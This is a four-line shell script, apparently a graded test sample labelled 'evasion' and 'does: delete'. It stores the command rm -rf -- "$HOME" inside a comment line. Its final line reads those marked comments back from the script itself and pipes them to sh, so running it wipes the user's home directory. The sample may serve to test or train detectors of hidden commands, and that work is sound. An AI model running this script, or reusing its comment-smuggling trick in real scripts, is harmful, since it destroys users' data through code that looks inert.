# evasion: the payload lives in comments that the script reads from itself and runs
# grade: very hard; does: delete
#@ rm -rf -- "$HOME"
grep '^#@' "$0" | cut -c4- | sh
